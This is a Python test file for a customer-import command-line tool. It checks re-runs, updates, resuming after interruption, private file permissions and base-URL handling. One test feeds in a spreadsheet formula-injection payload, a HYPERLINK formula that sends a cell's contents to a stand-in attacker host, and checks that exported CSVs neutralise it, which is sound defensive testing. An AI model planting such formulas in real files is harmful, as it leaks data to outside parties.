"""A re-run does what the merchant now asks; what a run leaves is private."""

from __future__ import annotations

import csv
import os
import stat
import sys
from pathlib import Path

import openpyxl
import pytest

from importer.sandbox import SandboxServer

from ..conftest import customers
from .test_delivery import people, start_import, wait_for_creations


def counts(result) -> dict[str, int]:
    return {k: v for k, v in result.summary["counts"].items() if v}


def write_csv(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(rows)
    return path


def test_another_sheet_of_the_same_workbook_is_another_import(cli, sandbox: SandboxServer, tmp_path: Path) -> None:
    path = tmp_path / "book.xlsx"
    book = openpyxl.Workbook()
    book.active.title = "Customers"
    book.active.append(["Name", "Email"])
    book.active.append(["Ada Obi", "ada@example.com"])
    signups = book.create_sheet("New signups")
    signups.append(["Name", "Email"])
    signups.append(["Bo Li", "bo@example.com"])
    book.save(path)
    first = cli("run", path, "--base-url", sandbox.base_url, token=sandbox.token)
    assert first.code == 0 and counts(first) == {"created": 1}
    second = cli("run", path, "--sheet", "New signups", "--base-url", sandbox.base_url, token=sandbox.token)
    assert second.code == 0 and counts(second) == {"created": 1}
    assert sorted(customers(sandbox)) == ["ada@example.com", "bo@example.com"]


def test_a_corrected_mapping_with_update_fixes_what_the_wrong_one_created(cli, sandbox: SandboxServer, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "c.csv", [["Name", "Company", "Email"], ["Ada Obi", "Obi Ltd", "ada@example.com"], ["Bo Li", "Li & Co", "bo@example.com"]])
    wrong = cli("run", path, "--map", "name=Company", "--base-url", sandbox.base_url, token=sandbox.token)
    assert wrong.code == 0 and counts(wrong) == {"created": 2}
    assert customers(sandbox)["ada@example.com"]["name"] == "Obi Ltd"
    fixed = cli("run", path, "--on-existing", "update", "--base-url", sandbox.base_url, token=sandbox.token)
    assert fixed.code == 0 and counts(fixed) == {"updated": 2}
    assert {e: c["name"] for e, c in customers(sandbox).items()} == {"ada@example.com": "Ada Obi", "bo@example.com": "Bo Li"}


def test_duplicates_then_update_updates_them(cli, sandbox: SandboxServer, tmp_path: Path) -> None:
    sandbox.store.create({"name": "Ada (old)", "email": "ada@example.com"})
    path = write_csv(tmp_path / "c.csv", [["Name", "Email"], ["Ada Obi", "ada@example.com"]])
    assert counts(cli("run", path, "--base-url", sandbox.base_url, token=sandbox.token)) == {"duplicate": 1}
    again = cli("run", path, "--on-existing", "update", "--base-url", sandbox.base_url, token=sandbox.token)
    assert again.code == 0 and counts(again) == {"updated": 1}
    assert customers(sandbox)["ada@example.com"]["name"] == "Ada Obi"


def test_an_update_leaves_the_stored_email_as_the_store_spells_it(cli, sandbox: SandboxServer, tmp_path: Path) -> None:
    sandbox.store.create({"name": "Jos", "email": "jos.adeyemi@example.co.uk"})
    path = write_csv(tmp_path / "c.csv", [["Name", "Email"], ["Jos Adeyemi", " JOS.ADEYEMI@EXAMPLE.CO.UK "]])
    result = cli("run", path, "--on-existing", "update", "--base-url", sandbox.base_url, token=sandbox.token)
    assert result.code == 0 and counts(result) == {"updated": 1}
    stored = customers(sandbox)["jos.adeyemi@example.co.uk"]
    assert (stored["email"], stored["name"]) == ("jos.adeyemi@example.co.uk", "Jos Adeyemi")


def test_a_finished_import_leaves_no_journal_and_runs_again_as_new(cli, sandbox: SandboxServer, tmp_path: Path) -> None:
    path = people(tmp_path / "p.csv", 3)
    assert cli("run", path, "--base-url", sandbox.base_url, token=sandbox.token).code == 0
    kept = sorted(p.name for p in (tmp_path / "reports" / ".state").iterdir())
    assert [name for name in kept if not name.startswith("ledger-")] == []  # no journal; the store's ledger stays
    assert sum(name.endswith(".sqlite") for name in kept) == 1
    again = cli("run", path, "--base-url", sandbox.base_url, token=sandbox.token)
    assert again.code == 0 and counts(again) == {"duplicate": 3}
    assert sandbox.store.stats.creations == 3


def interrupted_import(server: SandboxServer, path: Path, reports: Path) -> int:
    """Start an import in a process of its own, stop it with Ctrl-C after some creations; the rows it created."""
    import signal

    before = server.store.stats.creations
    process = start_import(path, server, reports)
    wait_for_creations(server, before + 30, process)
    process.send_signal(signal.SIGINT)
    out, err = process.communicate(timeout=60)
    assert process.returncode == 130, err
    assert "Stopped after" in err and "run the same command to send them" in err
    return sum(1 for _ in csv.DictReader((Path(out.strip().splitlines()[-1]) / "created.csv").open(encoding="utf-8-sig")))


@pytest.mark.skipif(sys.platform == "win32", reason="Ctrl-C is sent as a POSIX signal here")
@pytest.mark.store_emptied
def test_a_resumed_run_says_so_and_restart_starts_over(cli, make_sandbox, tmp_path: Path) -> None:
    from importer.sandbox import Faults

    server = make_sandbox(Faults(latency_ms=20))
    path = people(tmp_path / "p.csv", 300)
    created = interrupted_import(server, path, tmp_path / "reports")
    resumed = cli("run", path, "--base-url", server.base_url, token=server.token)
    assert resumed.code == 0, resumed.err
    assert f"Resuming an earlier run of this import: {created} rows already settled" in resumed.err
    assert resumed.summary["counts"]["skipped"] == created and server.store.stats.creations == 300

    server.store.customers.clear()  # as if the earlier customers were gone: --restart sends every row again
    server.store._by_email.clear()
    interrupted_import(server, path, tmp_path / "reports")
    restarted = cli("run", path, "--restart", "--base-url", server.base_url, token=server.token)
    assert restarted.code == 0 and "Resuming" not in restarted.err
    assert restarted.summary["counts"]["skipped"] == 0
    assert restarted.summary["counts"]["created"] + restarted.summary["counts"]["duplicate"] == 300


@pytest.mark.skipif(os.name == "nt", reason="POSIX file modes")
def test_everything_a_run_leaves_is_private_whatever_the_umask(make_sandbox, tmp_path: Path) -> None:
    from importer.sandbox import Faults

    server = make_sandbox(Faults(latency_ms=20))
    path = people(tmp_path / "p.csv", 300)
    tmp_path.chmod(0o755)
    old = os.umask(0o022)
    try:
        interrupted_import(server, path, tmp_path / "reports")
    finally:
        os.umask(old)
    reports = tmp_path / "reports"
    left = [p for p in reports.rglob("*")]
    folders = [p for p in left if p.is_dir()]
    files = [p for p in left if p.is_file()]
    assert {p.name for p in folders} >= {".state"} and len(folders) == 2
    assert any(p.suffix == ".sqlite" for p in files) and any(p.name == "report.xlsx" for p in files)
    assert {p.name: oct(stat.S_IMODE(p.stat().st_mode)) for p in folders} == {p.name: "0o700" for p in folders}
    assert {p.name: oct(stat.S_IMODE(p.stat().st_mode)) for p in files} == {p.name: "0o600" for p in files}
    assert oct(stat.S_IMODE(reports.stat().st_mode)) == "0o700"  # the reports folder the run made: it lists the runs
    assert oct(stat.S_IMODE(tmp_path.stat().st_mode)) == "0o755"  # a folder that was there is left as it was


def test_hostile_cells_are_not_formulas_in_the_csvs_and_import_again_as_they_were(cli, make_sandbox, tmp_path: Path) -> None:
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    path = write_csv(tmp_path / "c.csv", [["Name", "Email", "Phone"], [hostile, "eve@example.com", "+2348012345678"], ["@SUM(1+1)", "sam@example.com", ""], ["''Tis Ltd", "tis@example.com", ""]])
    first = make_sandbox()
    result = cli("run", path, "--base-url", first.base_url, token=first.token)
    assert result.code == 0
    raw = (result.folder / "created.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK(" in raw and "'+2348012345678" in raw and "'@SUM" in raw
    assert not any(line.startswith(("=", "+", "-", "@")) or ",=" in line or ",@" in line for line in raw.splitlines())
    again = make_sandbox()
    assert cli("run", result.folder / "created.csv", "--base-url", again.base_url, token=again.token).code == 0
    for store in (first, again):
        stored = customers(store)
        assert (stored["eve@example.com"]["name"], stored["eve@example.com"]["phone"]) == (hostile, "+2348012345678")
        assert stored["sam@example.com"]["name"] == "@SUM(1+1)"
        assert stored["tis@example.com"]["name"] == "'Tis Ltd"  # one apostrophe, Excel's text mark, was dropped


@pytest.mark.skipif(sys.platform == "win32", reason="Ctrl-C is sent as a POSIX signal here")
def test_a_second_ctrl_c_still_leaves_a_complete_report(make_sandbox, tmp_path: Path) -> None:
    import json
    import signal
    import time

    from importer.sandbox import Faults

    server = make_sandbox(Faults(latency_ms=300))
    path = people(tmp_path / "p.csv", 300)
    process = start_import(path, server, tmp_path / "reports")
    wait_for_creations(server, 20, process)
    process.send_signal(signal.SIGINT)
    time.sleep(0.05)
    process.send_signal(signal.SIGINT)
    out, err = process.communicate(timeout=60)
    assert process.returncode == 130, err
    folder = Path(out.strip().splitlines()[-1])
    summary = json.loads((folder / "summary.json").read_text(encoding="utf-8"))
    filed = sum(sum(1 for _ in csv.DictReader((folder / name).open(encoding="utf-8-sig"))) for name in ("created.csv", "pending.csv"))
    assert summary["rows"] == 300 and filed == 300 and summary["counts"]["pending"] > 0
    assert "Stopped after" in err


def test_another_spelling_of_the_base_url_is_the_same_import(cli, make_sandbox, tmp_path: Path) -> None:
    """`HTTP://127.0.0.1:PORT/api/./v1/` and `http://127.0.0.1:PORT/api/v1` are one store: the second run resumes the first."""
    from importer.sandbox import Faults

    server = make_sandbox(Faults(revoke_after=5))
    path = people(tmp_path / "p.csv", 20)
    odd = server.base_url.replace("http://", "HTTP://").replace("/api/v1", "/api/./v1/")
    first = cli("run", path, "--base-url", odd, token=server.token)
    assert first.code == 3 and first.summary["counts"]["created"] == 5, first.err
    server.store.add_token("app_renewed", {"WRITE_CUSTOMERS"})
    server.faults.revoke_after = None
    second = cli("run", path, "--base-url", server.base_url, token="app_renewed")
    assert second.code == 0 and "Resuming an earlier run of this import" in second.err
    assert second.summary["counts"]["skipped"] == 5 and second.summary["counts"]["created"] == 15
